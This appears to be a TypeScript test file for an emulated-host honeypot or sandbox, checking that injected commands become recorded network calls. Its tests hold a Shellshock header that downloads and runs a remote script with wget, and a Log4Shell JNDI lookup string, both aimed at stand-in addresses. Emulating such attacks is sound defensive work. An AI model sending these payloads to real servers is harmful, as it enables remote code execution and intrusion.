/**
 * The wiring the coordinator's host uses: `EmulatedHost` with `runShellCommand` and
 * `evaluateLog4jLookups` as its interpreters, driven through `httpService()`. An injected command
 * and a Log4Shell header become network calls on the host's endpoint.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { RecordingEndpoint } from '../../../src/emulator/behaviour/network-endpoint.ts';
import { EmulatedHost } from '../../../src/emulator/host/emulated-host.ts';
import { evaluateLog4jLookups, hostJndiContext } from '../../../src/emulator/jndi/index.ts';
import { httpService } from '../../../src/emulator/services/http/index.ts';
import { hostShellContext, runShellCommand } from '../../../src/emulator/shell/index.ts';
import { defaultCatalogue } from '../../../src/sandbox/index.ts';

function host(profileId: string, network: RecordingEndpoint): EmulatedHost {
  return new EmulatedHost({
    profile: defaultCatalogue().get(profileId)!,
    address: '10.0.0.2',
    network: () => network,
    interpreters: {
      shell: (kind, commandLine, emulated, origin) => runShellCommand(kind, commandLine, hostShellContext(emulated, origin)),
      log4j: (text, emulated, origin) => evaluateLog4jLookups(text, hostJndiContext(emulated, origin)).jndiNames,
    },
  });
}

describe('host wiring', () => {
  it('Shellshock on the bash CGI profile: the trailing wget leaves the dummy through its endpoint', () => {
    const network = new RecordingEndpoint();
    const dummy = host('linux-apache-bash-cgi', network);
    const connection = httpService().open(dummy, { address: '192.0.2.1', port: 5000 }, 80);
    connection.receive(new TextEncoder().encode('GET /cgi-bin/test.cgi HTTP/1.1\r\nHost: x\r\nUser-Agent: () { :;}; /bin/bash -c "cd /tmp;wget http://192.0.2.50/s;sh s"\r\n\r\n'));
    assert.deepEqual(network.transcript.connects.map((connect) => `${connect.address}:${connect.port}`), ['192.0.2.50:80']);
    const kinds = dummy.observations.map((observation) => observation.kind);
    assert.deepEqual(kinds.slice(0, 2), ['exploit', 'exec']);
    assert.ok(dummy.observations.some((observation) => observation.kind === 'exec' && observation.command.startsWith('wget')));
  });

  it('Log4Shell on the Tomcat profile: an LDAP connection; on 2.17 nothing', () => {
    for (const [profileId, connects] of [['linux-tomcat-log4j-2.14', 1], ['linux-tomcat-log4j-2.17', 0]] as const) {
      const network = new RecordingEndpoint();
      const dummy = host(profileId, network);
      const connection = httpService().open(dummy, { address: '192.0.2.1', port: 5000 }, 8080);
      connection.receive(new TextEncoder().encode('GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: ${jndi:ldap://192.0.2.60:1389/o}\r\n\r\n'));
      assert.equal(network.transcript.connects.filter((connect) => connect.port === 1389).length, connects, profileId);
    }
  });

  it('the shell environment fits the profile and persists in the host state', () => {
    const network = new RecordingEndpoint();
    const dummy = host('busybox-dvr', network);
    assert.equal(dummy.runCommand('sh', 'export MARK=1; uname -m; whoami', 'telnet'), 'armv7l\nroot\n');
    assert.equal(dummy.runCommand('sh', 'echo $MARK', 'telnet'), '1\n');
    const windows = host('win-2000-sp2-iis5', network);
    assert.match(windows.runCommand('cmd', 'whoami', 'shell:4444'), /\\system/);
  });
});
